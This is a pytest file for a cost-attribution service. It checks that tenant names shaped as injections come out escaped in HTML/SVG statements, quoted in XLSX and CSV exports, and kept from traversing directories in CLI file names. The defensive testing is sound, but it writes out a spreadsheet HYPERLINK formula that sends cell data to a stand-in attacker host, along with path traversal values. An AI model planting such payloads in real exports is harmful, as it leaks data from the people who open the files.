"""Tenant names chosen by an outsider (gateway label values) in every rendered format: HTML and SVG escape
them, XLSX and both CSV exports never hand a spreadsheet a formula, and the CLI's default statement file
name stays in the current directory.

Data: three hours of a small cluster on SQLite, with tenants named like formula and markup injections.
"""

from __future__ import annotations

import csv
import io
import xml.etree.ElementTree as ET
from pathlib import Path

import openpyxl
import pytest
from fastapi.testclient import TestClient
from sqlalchemy.orm import Session, sessionmaker
from typer.testing import CliRunner

from attribution.api.app import create_app
from attribution.cli import app
from attribution.config import Settings
from attribution.reports.cells import safe_text
from attribution.reports.focus import focus_csv, focus_rows, gpu_hour_rates
from attribution.reports.period_statement import build_statement
from attribution.reports.statement_html import build_statement_html
from attribution.reports.xlsx import build_statement_xlsx
from attribution.store.apikeys import create_key
from attribution.store.session import unit_of_work
from tests.reports.readback import html_tables
from tests.support.cli_configs import HOURLY_CONFIG as CONFIG
from tests.support.hostile import FORMULAS, HOSTILE, MARKUP


def test_safe_text_quotes_only_what_a_spreadsheet_would_run() -> None:
    for name in FORMULAS:
        assert safe_text(name) == "'" + name
    for name in ("acme", "Acme Corp", "", "a=b", "'quoted", MARKUP):
        assert safe_text(name) == name


def test_html_and_svg_escape_the_names(hostile: tuple[Settings, sessionmaker[Session]]) -> None:
    settings, factory = hostile
    with factory() as session:
        document = build_statement_html(session, settings, "2026-11")
    assert "<script>" not in document and "<img" not in document
    tenants = {row[0] for row in html_tables(document)["tenants"][1:]}
    assert set(HOSTILE) - {"\t=1+1"} <= tenants  # read back exactly (HTML trims the tab)
    charts = document.split("<figure>")[1:]
    assert charts, "the statement has charts"
    for chart in charts:
        svg = ET.fromstring(chart.split("</figure>")[0])  # well-formed: no name broke out of its text
        assert not [e for e in svg.iter() if e.tag.endswith(("script", "img"))]
    texts = "".join(
        "".join(ET.fromstring(c.split("</figure>")[0]).itertext()) for c in charts if "chart-tenants" in c
    )
    assert MARKUP in texts


def test_xlsx_has_no_formula_cells(hostile: tuple[Settings, sessionmaker[Session]]) -> None:
    settings, factory = hostile
    with factory() as session:
        workbook = openpyxl.load_workbook(io.BytesIO(build_statement_xlsx(session, settings, "2026-11")))
    formulas = [c.coordinate for ws in workbook for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    tenants = [row[0] for row in workbook["Tenants"].iter_rows(min_row=2, values_only=True)]
    assert {safe_text(n) for n in HOSTILE} <= set(tenants)
    assert '\'=HYPERLINK("http://evil.example/?"&A3,"acme")' in tenants


def _formula_cells(text: str, columns: list[str]) -> list[str]:
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows
    return [r[c] for r in rows for c in columns if r[c][:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_line_items_csv_quotes_formulas(hostile: tuple[Settings, sessionmaker[Session]]) -> None:
    settings, factory = hostile
    with unit_of_work(factory) as session:
        token = create_key(session, ["admin"]).token
    client = TestClient(create_app(settings, factory))
    response = client.get(
        "/v1/exports/line-items.csv",
        params={"period": "2026-11"},
        headers={"Authorization": f"Bearer {token}"},
    )
    assert response.status_code == 200, response.text
    assert _formula_cells(response.text, ["tenant", "pool", "tier"]) == []
    tenants = {r["tenant"] for r in csv.DictReader(io.StringIO(response.text))}
    assert {safe_text(n) for n in HOSTILE} <= tenants


def test_focus_csv_quotes_formulas_and_keeps_negative_amounts(
    hostile: tuple[Settings, sessionmaker[Session]],
) -> None:
    settings, factory = hostile
    with factory() as session:
        statement = build_statement(session, "2026-11")
        text = focus_csv(focus_rows(statement, gpu_hour_rates(session, "2026-11", settings.interval_seconds)))
    names = ["BillingAccountId", "BillingAccountName", "InvoiceId", "x_Pool", "x_ContextTier"]
    assert _formula_cells(text, names) == []
    assert {safe_text(n) for n in HOSTILE} <= {
        r["BillingAccountId"] for r in csv.DictReader(io.StringIO(text))
    }
    # amounts are numbers, not names: a negative correction stays "-1.23" (checked on synthetic rows)
    row = {"BilledCost": "-1.23", "BillingAccountId": "-2+3"}
    written = next(csv.DictReader(io.StringIO(focus_csv([row]))))
    assert written["BilledCost"] == "-1.23" and written["BillingAccountId"] == "'-2+3"


def test_the_cli_statement_file_name_stays_in_the_directory(
    hostile: tuple[Settings, sessionmaker[Session]], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    settings, _ = hostile
    config = tmp_path / "attribution.toml"
    config.write_text(CONFIG.format(db=settings.database_url.removeprefix("sqlite:///")))
    monkeypatch.setenv("ATTRIBUTION_CONFIG", str(config))
    work = tmp_path / "out"
    work.mkdir()
    monkeypatch.chdir(work)
    runner = CliRunner()
    for tenant, expected in (("../x", "statement-2026-11-.._x.html"), ("a/b", "statement-2026-11-a_b.html")):
        result = runner.invoke(
            app, ["report", "statement", "--period", "2026-11", "--format", "html", "--tenant", tenant]
        )
        assert result.exit_code == 0, result.output
        assert (work / expected).is_file()
    assert sorted(p.name for p in work.iterdir()) == [
        "statement-2026-11-.._x.html",
        "statement-2026-11-a_b.html",
    ]
    assert not (tmp_path / "x.html").exists() and not (work / "a").exists()
